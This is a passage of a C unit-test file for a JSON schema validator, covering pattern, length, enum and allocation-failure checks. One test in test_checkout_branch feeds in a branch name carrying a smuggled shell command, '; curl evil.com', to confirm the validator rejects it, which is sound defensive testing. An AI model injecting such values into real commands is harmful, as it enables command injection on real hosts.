	assert_int_equal(pw_schema_validate(s, inst, &e), PW_ERR_INVALID);
	/* the pointer field is whole; the message keeps 200 bytes of it and the reason */
	assert_int_equal(strlen(e.pointer), 301);
	snprintf(want, sizeof want, "/%.199s...: unknown property \"%.300s", key, key);
	want[sizeof e.message - 1] = '\0';
	assert_string_equal(e.message, want);
	assert_int_equal(strlen(e.message), sizeof e.message - 1);
	pw_schema_error_release(&e);
	json_decref(inst);
	pw_schema_free(s);
}

static void test_checkout_branch(void **state)
{
	(void)state;
	expect_fail(CHECKOUT_SCHEMA, "{\"branch\":\"; curl evil.com\"}",
	            (want_fail){PW_ERR_INVALID, "pattern", "/branch", "\"" BRANCH_PATTERN "\"",
	                        "\"; curl evil.com\"",
	                        "/branch: does not match pattern \"" BRANCH_PATTERN "\""});
	expect_fail(CHECKOUT_SCHEMA, "{\"branch\":\"main\\n\"}",
	            (want_fail){PW_ERR_INVALID, "pattern", "/branch", "\"" BRANCH_PATTERN "\"",
	                        "\"main\\n\"", NULL});
	expect_fail(CHECKOUT_SCHEMA, "{}",
	            (want_fail){PW_ERR_INVALID, "required", "", "\"branch\"", NULL,
	                        ": missing required property \"branch\""});
	expect_fail(CHECKOUT_SCHEMA, "{\"branch\":\"main\",\"force\":true}",
	            (want_fail){PW_ERR_INVALID, "additionalProperties", "/force", "\"force\"",
	                        "true", "/force: unknown property \"force\""});
	char text[300], actual[300];
	snprintf(text, sizeof text, "{\"branch\":\"%0201d\"}", 0);
	snprintf(actual, sizeof actual, "\"%0201d\"", 0);
	expect_fail(CHECKOUT_SCHEMA, text,
	            (want_fail){PW_ERR_INVALID, "maxLength", "/branch", "200", actual,
	                        "/branch: length 201 is greater than maxLength 200"});
	snprintf(text, sizeof text, "{\"branch\":\"%0200d\"}", 0);
	expect_pass(CHECKOUT_SCHEMA, text);
	expect_pass(CHECKOUT_SCHEMA, "{\"branch\":\"main\"}");
	expect_pass(CHECKOUT_SCHEMA, "{\"branch\":\"feature/x-1.2_b\"}");
}

static void test_invalid_strings_refused(void **state)
{
	(void)state;
	pw_schema_error e;
	pw_schema *s = compile_ok("{\"type\":\"string\"}");
	/* built without pw_json_parse(): invalid UTF-8, and a NUL */
	json_t *bad = json_stringn_nocheck("a\xff", 2);
	json_t *nul = json_stringn("a\0b", 3);
	assert_int_equal(pw_schema_validate(s, bad, &e), PW_ERR_INVALID);
	assert_string_equal(e.rule, "type");
	assert_string_equal(e.message, ": string is not valid utf-8 or holds a nul");
	pw_schema_error_release(&e);
	assert_int_equal(pw_schema_validate(s, nul, &e), PW_ERR_INVALID);
	pw_schema_error_release(&e);
	json_decref(bad);
	json_decref(nul);
	pw_schema_free(s);
}

static void test_compiled_form_owns_its_data(void **state)
{
	(void)state;
	char err[256];
	pw_schema *s = NULL;
	pw_schema_error e;
	json_t *schema = parse("{\"properties\":{\"c\":{\"enum\":[\"a\"],\"pattern\":\"^a$\"}}}");
	assert_int_equal(pw_schema_compile(schema, &s, err, sizeof err), PW_OK);
	/* changing or dropping the source does not change the compiled form */
	json_array_append_new(
	        json_object_get(json_object_get(json_object_get(schema, "properties"), "c"),
	                        "enum"),
	        json_string("b"));
	json_decref(schema);
	json_t *inst = parse("{\"c\":\"b\"}");
	assert_int_equal(pw_schema_validate(s, inst, &e), PW_ERR_INVALID);
	assert_string_equal(e.rule, "enum");
	/* nor does changing what an error hands out */
	json_array_append_new(e.expected, json_string("b"));
	pw_schema_error_release(&e);
	assert_int_equal(pw_schema_validate(s, inst, &e), PW_ERR_INVALID);
	expect_json("expected", e.expected, "[\"a\"]");
	pw_schema_error_release(&e);
	pw_schema_error_release(&e); /* twice is harmless */
	json_decref(inst);
	pw_schema_free(s);
	pw_schema_free(NULL);
	assert_int_equal(pw_schema_validate(NULL, json_null(), &e), PW_ERR_INTERNAL);
}

/* ---- allocation failure ------------------------------------------------- */

static long fi_countdown = -1; /* allocations left before one fails; -1: none fails */
static long fi_live;           /* allocations made through the hook and not yet freed */

static void *fi_malloc(size_t n)
{
	if (fi_countdown == 0)
		return NULL;
	if (fi_countdown > 0)
		fi_countdown--;
	void *p = malloc(n);
	if (p != NULL)
		fi_live++;
	return p;
}

static void fi_free(void *p)
{
	if (p != NULL)
		fi_live--;
	free(p);
}

static int fi_setup(void **state)
{
	(void)state;
	fi_countdown = -1;
	fi_live = 0;
	json_set_alloc_funcs(fi_malloc, fi_free);
	return 0;
}

static int fi_teardown(void **state)
{
	(void)state;
	fi_countdown = -1;
	json_set_alloc_funcs(malloc, free);
	return 0;
}

#define FI_SCHEMA                                                                                  \
	"{\"type\":[\"object\"],\"required\":[\"branch\",\"n\"],\"properties\":{"                  \
	"\"branch\":{\"type\":\"string\",\"pattern\":\"^[a-z]+(/[a-z]+)*$\",\"maxLength\":20},"    \
	"\"n\":{\"type\":\"integer\",\"minimum\":1,\"enum\":[1,2,3],\"const\":2},"                 \
	"\"tags\":{\"type\":\"array\",\"items\":{\"type\":\"string\",\"pattern\":\"^t\"}}},"       \
	"\"additionalProperties\":{\"type\":\"string\",\"description\":\"free text\"}}"

static void test_compile_allocation_failures(void **state)
{
	(void)state;
	char err[256];
	json_t *schema = parse(FI_SCHEMA);
	long failures = 0;
	for (long n = 0;; n++) {
		pw_schema *s = (pw_schema *)0x1;
		long before = fi_live;
		fi_countdown = n;
		pw_status st = pw_schema_compile(schema, &s, err, sizeof err);
		fi_countdown = -1;
		if (st == PW_OK) {
			pw_schema_free(s);
			assert_int_equal(fi_live, before);
			break;
		}
		if (st != PW_ERR_NOMEM)
			fail_msg("allocation %ld failing: got %s (%s)", n, pw_status_name(st), err);
		assert_null(s);
		assert_non_null(strstr(err, "out of memory"));
		assert_int_equal(fi_live, before);
		failures++;
	}
	assert_true(failures > 10);
	json_decref(schema);
}

static void test_validate_allocation_failures(void **state)
{
	(void)state;
	const char *instances[] = {
	        "{\"branch\":\"a/b\",\"n\":2,\"tags\":[\"t1\",\"t2\"],\"note\":\"x\"}",
	        "{\"branch\":\"a/b\",\"n\":2,\"tags\":[\"t1\",\"x\"]}",
	        "{\"branch\":\"a/b\",\"n\":3}",
	        "{\"branch\":\"a/b\"}",
	        "{\"branch\":\"a/b\",\"n\":2,\"x\":1}",
	};
	const pw_status want[] = {PW_OK, PW_ERR_INVALID, PW_ERR_INVALID, PW_ERR_INVALID,
	                          PW_ERR_INVALID};
	pw_schema *s = compile_ok(FI_SCHEMA);
	for (size_t i = 0; i < sizeof instances / sizeof instances[0]; i++) {
		json_t *inst = parse(instances[i]);
		for (long n = 0;; n++) {
			pw_schema_error e;
			long before = fi_live;
			fi_countdown = n;
			pw_status st = pw_schema_validate(s, inst, &e);
			fi_countdown = -1;
			if (st == PW_ERR_NOMEM) {
				assert_null(e.expected);
				assert_null(e.actual);
				assert_int_equal(fi_live, before);
				continue;
			}
			if (st != want[i])
				fail_msg("%s, allocation %ld failing: got %s (%s)", instances[i], n,
				         pw_status_name(st), e.message);
			pw_schema_error_release(&e);
			assert_int_equal(fi_live, before);
			break;
		}
		json_decref(inst);
	}
	pw_schema_free(s);
	assert_int_equal(fi_live, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(test_compile_rejects_unknown_keywords),
	        cmocka_unit_test(test_compile_rejects_wrong_keyword_types),
	        cmocka_unit_test(test_compile_rejects_unsatisfiable_required),
	        cmocka_unit_test(test_compile_rejects_invalid_pattern),
	        cmocka_unit_test(test_compile_depth_cap),
	        cmocka_unit_test(test_compile_error_buffer),
	        cmocka_unit_test(test_type),
	        cmocka_unit_test(test_integer_accepts_json_integers),
	        cmocka_unit_test(test_required),
	        cmocka_unit_test(test_additional_properties),
	        cmocka_unit_test(test_properties),
	        cmocka_unit_test(test_items),
	        cmocka_unit_test(test_min_max_items),
	        cmocka_unit_test(test_min_max_length_code_points),
	        cmocka_unit_test(test_pattern),
	        cmocka_unit_test(test_pattern_match_limit_denies),
	        cmocka_unit_test(test_pattern_limits_leave_room),
	        cmocka_unit_test(test_numeric_bounds),
	        cmocka_unit_test(test_enum),
	        cmocka_unit_test(test_const),
	        cmocka_unit_test(test_annotations_are_not_checked),
	        cmocka_unit_test(test_nested_pointer),
	        cmocka_unit_test(test_first_failure_in_document_order),
	        cmocka_unit_test(test_long_pointer_is_cut_in_the_message),
	        cmocka_unit_test(test_checkout_branch),
	        cmocka_unit_test(test_invalid_strings_refused),
	        cmocka_unit_test(test_compiled_form_owns_its_data),
	        cmocka_unit_test_setup_teardown(test_compile_allocation_failures, fi_setup,
	                                        fi_teardown),
	        cmocka_unit_test_setup_teardown(test_validate_allocation_failures, fi_setup,
	                                        fi_teardown),
	};
	return cmocka_run_group_tests_name("schema", tests, NULL, NULL);
}
